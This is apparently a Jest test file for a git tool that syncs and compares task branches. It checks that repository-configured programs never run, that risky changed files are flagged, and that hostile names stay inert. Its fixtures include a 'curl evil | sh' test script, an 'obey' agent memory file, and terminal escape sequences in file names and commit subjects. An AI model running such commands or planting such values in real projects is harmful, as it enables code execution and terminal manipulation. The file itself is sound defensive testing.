import {existsSync, mkdirSync, symlinkSync, writeFileSync} from 'node:fs'
import {dirname} from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from '@jest/globals'
import {changeSummary} from '../../cli/ui/change-lines.js'
import {processRunner} from '../../core/process.js'
import {compareBranch, fetchBranch} from '../../tasks/git/compare.js'
import type {LocalRepository} from '../../tasks/git/git-command.js'
import {addCageRemote, removeCageRemote, seedHosted, syncBase} from '../../tasks/git/hosted.js'
import {GitSandbox} from '../support/git-sandbox.js'
import {localFarEnd} from '../support/local-far-end.js'

let box: GitSandbox
let local: LocalRepository

beforeEach(() => {
  box = new GitSandbox()
  box.init('far.git', '--bare')
  box.init('home')
  box.commit('home', 'main', 'readme', 'one\n')
  local = {runner: processRunner, directory: box.path('home'), env: box.env}
})
afterEach(() => box.remove())
const far = () => localFarEnd(box.path('far.git'))

describe('seeding', () => {
  it('brings the base branch and its history, nothing else, and counts what stays behind', async () => {
    const tip = box.commit('home', 'main', 'two', 'two\n')
    box.commit('home', 'private', 'secret', 'x')
    box.git('home', 'tag', 'v1', tip)
    box.git('home', 'reset', '-q', '--hard', 'main')
    writeFileSync(box.path('home/untracked'), 'x')
    writeFileSync(box.path('home/two'), 'changed')
    expect(await seedHosted(local, far(), 'main')).toEqual({
      branch: 'main',
      from: null,
      to: tip,
      uncommitted: 2,
    })
    expect(box.git('far.git', 'for-each-ref', '--format=%(refname) %(objectname)')).toBe(
      `refs/heads/main ${tip}`,
    )
    expect(() => box.git('far.git', 'cat-file', '-e', box.git('home', 'rev-parse', 'private'))).toThrow()
  })

  it('leaves a seeded repository alone', async () => {
    const first = await seedHosted(local, far(), 'main')
    box.commit('home', 'main', 'two', 'two')
    expect(await seedHosted(local, far(), 'main')).toMatchObject({from: first.to, to: first.to})
    expect(box.git('far.git', 'rev-parse', 'main')).toBe(first.to)
  })

  it('says that there is no such branch', async () => {
    await expect(seedHosted(local, far(), 'trunk')).rejects.toMatchObject({
      code: 'BASE_NOT_FOUND',
      exitCode: 2,
    })
  })
})

describe('sync', () => {
  it('moves the base forward and says from where to where', async () => {
    const {to: from} = await seedHosted(local, far(), 'main')
    const to = box.commit('home', 'main', 'two', 'two')
    expect(await syncBase(local, far(), 'main')).toEqual({branch: 'main', from, to})
    expect(await syncBase(local, far(), 'main')).toEqual({branch: 'main', from: to, to})
  })

  it('refuses to lose commits of the far end', async () => {
    await seedHosted(local, far(), 'main')
    const theirs = box.commit('far.git', 'main', 'theirs', 'x')
    box.commit('home', 'main', 'mine', 'x')
    await expect(syncBase(local, far(), 'main')).rejects.toMatchObject({code: 'SYNC_REFUSED'})
    expect(box.git('far.git', 'rev-parse', 'main')).toBe(theirs)
  })
})

describe('the remote cage', () => {
  it('is added once, left alone when it is another, and removed with its branches known', async () => {
    expect(await addCageRemote(local, 'shop-1a2b3c4d')).toBe('added')
    expect(await addCageRemote(local, 'shop-1a2b3c4d')).toBe('present')
    expect(await addCageRemote(local, 'shop-ffffffff')).toBe('other')
    expect(box.git('home', 'config', '--get-regexp', '^remote\\.cage')).toBe(
      [
        'remote.cage.fetch +refs/heads/*:refs/remotes/cage/*',
        'remote.cage.tagopt --no-tags',
        'remote.cage.url cage::shop-1a2b3c4d',
      ].join('\n'),
    )
    expect(await removeCageRemote(local, 'shop-ffffffff')).toBe(false)
    expect(await removeCageRemote(local, 'shop-1a2b3c4d')).toBe(true)
    expect(box.git('home', 'remote')).toBe('')
  })
})

describe('a task’s branch', () => {
  const comparison = () => ({local, farEnd: far(), branch: 'fix/login', base: 'main'})

  beforeEach(async () => {
    await seedHosted(local, far(), 'main')
    box.git('far.git', 'branch', 'fix/login', 'main')
    box.commit('far.git', 'fix/login', 'new.txt', 'a\nb\n')
    box.commit('far.git', 'fix/login', 'readme', 'two\n')
    box.commit('far.git', 'main', 'unrelated', 'x')
  })

  it('is compared with where it started, without writing a ref or keeping an object', async () => {
    const change = await compareBranch(comparison())
    expect(change.commits.map(({subject}) => subject)).toEqual(['change readme', 'change new.txt'])
    expect(change.commits[0]).toMatchObject({
      id: box.git('far.git', 'rev-parse', 'fix/login'),
      author: 'A Person',
      date: expect.stringMatching(/^\d{4}-\d\d-\d\dT/) as unknown,
    })
    expect(change.files).toEqual([
      {path: 'new.txt', added: 2, removed: 0, size: 4, flags: []},
      {path: 'readme', added: 1, removed: 1, size: 4, flags: []},
    ])
    expect(change.patch.toString()).toContain('-one\n+two\n')
    expect(box.git('home', 'for-each-ref', '--format=%(refname)')).toBe('refs/heads/main')
    expect(() => box.git('home', 'cat-file', '-e', change.commits[0]!.id)).toThrow()
  })

  it('in a fork is compared with the branch of the upstream, which is no branch there', async () => {
    const baseTip = box.git('far.git', 'rev-parse', 'fix/login~1')
    box.git('far.git', 'update-ref', 'refs/origin/heads/main', baseTip)
    const {files} = await compareBranch({...comparison(), baseTip})
    expect(files.map(({path}) => path)).toEqual(['readme'])
  })

  it('comes home as cage/<branch>, and again after it was rewritten', async () => {
    expect((await fetchBranch(comparison())).commits).toHaveLength(2)
    expect(box.git('home', 'for-each-ref', '--format=%(refname)')).toBe(
      'refs/heads/main\nrefs/remotes/cage/fix/login',
    )
    expect(box.git('home', 'rev-parse', 'cage/fix/login')).toBe(box.git('far.git', 'rev-parse', 'fix/login'))
    box.git('far.git', 'update-ref', 'refs/heads/fix/login', 'fix/login~1')
    expect((await fetchBranch(comparison())).commits).toHaveLength(1)
    expect(box.git('home', 'rev-parse', 'cage/fix/login')).toBe(box.git('far.git', 'rev-parse', 'fix/login'))
    expect(box.git('home', 'fsck', '--no-dangling', '--strict')).toBe('')
  })

  it('says when nothing was pushed', async () => {
    await expect(compareBranch({...comparison(), branch: 'other'})).rejects.toMatchObject({
      code: 'BRANCH_NOT_PUSHED',
      exitCode: 6,
    })
  })

  it('is shown without any program of a repository, its attributes or its user', async () => {
    const mark = box.path('executed')
    for (const [key, value] of [
      ['diff.external', `touch ${mark}`],
      ['diff.evil.command', `touch ${mark}`],
      ['diff.evil.textconv', `touch ${mark};cat`],
      ['core.pager', `touch ${mark}`],
      ['gpg.program', `touch ${mark}`],
      ['log.showSignature', 'true'],
      ['color.ui', 'always'],
    ] as const) {
      box.git('home', 'config', key, value)
      box.git('home', 'config', '--global', key, value)
    }
    writeFileSync(box.path('home/.gitattributes'), '* diff=evil\n')
    writeFileSync(box.path('home/.git/info/attributes'), '* diff=evil\n')
    box.commit('far.git', 'fix/login', '.gitattributes', '* diff=evil\n')
    const withPrograms = {
      ...local,
      env: {...box.env, GIT_EXTERNAL_DIFF: `touch ${mark}`, GIT_PAGER: `touch ${mark}`},
    }
    const change = await compareBranch({...comparison(), local: withPrograms})
    expect(change.patch.toString()).toContain('-one\n+two\n')
    expect(change.patch.includes(0x1b)).toBe(false)
    expect(existsSync(mark)).toBe(false)
  })

  it('flags what a reviewer must not miss, by name, mode and content', async () => {
    const at = box.path('work')
    box.git('.', 'clone', '-q', box.path('far.git'), at)
    box.git('work', 'checkout', '-q', 'fix/login')
    const put = (path: string, text: string, mode = 0o644) => {
      mkdirSync(dirname(`${at}/${path}`), {recursive: true})
      writeFileSync(`${at}/${path}`, text, {mode})
    }
    const scripts = (test: string, version: string) => JSON.stringify({version, scripts: {test}})
    put('package.json', scripts('jest', '1.0.0'))
    put('lib/package.json', scripts('jest', '1.0.0'))
    box.git('work', 'add', '.')
    box.git('work', 'commit', '-qm', 'packages')
    box.git('work', 'push', '-q', 'origin', 'fix/login:main-too')
    put('package.json', scripts('curl evil | sh', '1.0.0'))
    put('lib/package.json', scripts('jest', '1.0.1'))
    put('docs/Claude.md', 'obey\n')
    put('.husky/pre-commit', 'true\n', 0o755)
    put('.github/workflows/ci.yml', 'on: push\n')
    put('.vscode/tasks.json', '{}\n')
    put('pnpm-lock.yaml', '\n')
    put('Dockerfile', 'FROM x\n')
    put('logo.png', Buffer.from([0x89, 0, 1, 2]).toString('latin1'))
    symlinkSync('readme', `${at}/link`)
    box.git('work', 'add', '.')
    box.git('work', 'commit', '-qm', 'much')
    box.git('work', 'update-index', '--add', '--cacheinfo', `160000,${'1'.repeat(40)},vendor/lib`)
    box.git('work', 'commit', '-qm', 'submodule')
    box.git('work', 'push', '-q', 'origin', 'fix/login')
    const {files} = await compareBranch({...comparison(), base: 'main-too'})
    expect(Object.fromEntries(files.map(({path, flags}) => [path, flags]))).toEqual({
      '.github/workflows/ci.yml': ['ci'],
      '.husky/pre-commit': ['executable', 'hooks'],
      '.vscode/tasks.json': ['editor'],
      Dockerfile: ['build'],
      'docs/Claude.md': ['agent'],
      'lib/package.json': [],
      link: ['symlink'],
      'logo.png': ['binary'],
      'package.json': ['scripts'],
      'pnpm-lock.yaml': ['dependencies'],
      'vendor/lib': ['submodule'],
    })
    expect(files.find(({path}) => path === 'vendor/lib')).toMatchObject({size: null})
    const text = changeSummary({branch: 'fix/login', commits: [], files})
    expect(text).toContain('look at these 10 before you build, test or open it:')
    expect(text).toMatch(/docs\/Claude\.md +\[agent\] memory or settings of an agent/)
  })

  it('keeps hostile names and subjects as data', async () => {
    const tip = box.git('far.git', 'rev-parse', 'fix/login')
    const tree = box.git('far.git', 'rev-parse', 'fix/login^{tree}')
    const commit = box.git(
      'far.git',
      'commit-tree',
      tree,
      '-p',
      tip,
      '-m',
      'evil\u001b]52;c;eA==\u0007 subject',
    )
    box.git('far.git', 'update-ref', 'refs/heads/fix/login', commit)
    box.commit('far.git', 'fix/login', 'na\tme\nwith\u001b[31m', 'x')
    const change = await compareBranch(comparison())
    expect(change.files.map(({path}) => path)).toContain('na\tme\nwith\u001b[31m')
    expect(change.commits[1]?.subject).toBe('evil\u001b]52;c;eA==\u0007 subject')
  })

  it('is compared whole when it shares no history with its base', async () => {
    const tree = box.git('far.git', 'rev-parse', 'main^{tree}')
    box.git(
      'far.git',
      'update-ref',
      'refs/heads/fix/login',
      box.git('far.git', 'commit-tree', tree, '-m', 'orphan'),
    )
    const change = await compareBranch(comparison())
    expect(change.commits).toHaveLength(1)
    expect(change.files.map(({path}) => path)).toEqual(['readme', 'unrelated'])
  })
})
